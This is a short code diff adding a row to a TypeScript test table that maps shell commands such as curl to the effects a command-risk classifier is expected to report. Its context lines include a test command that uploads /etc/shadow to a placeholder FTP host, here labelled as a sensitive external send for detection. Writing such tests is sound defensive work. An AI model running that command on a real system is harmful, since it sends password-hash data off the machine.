@@ -15,6 +15,10 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ],
   ['curl --output-dir /opt -O https://example.com/a', ['network:fetch example.com external', 'write:overwrite /opt/a']],
   [
+    'curl --output-dir /opt -o b https://example.com/a',
+    ['write:overwrite b', 'network:fetch example.com external', 'write:overwrite /opt/b'],
+  ],
+  [
     'curl -T /etc/shadow ftp://h.example',
     ['read:read /etc/shadow external sensitive', 'network:send external sensitive', 'network:fetch h.example external'],
   ],
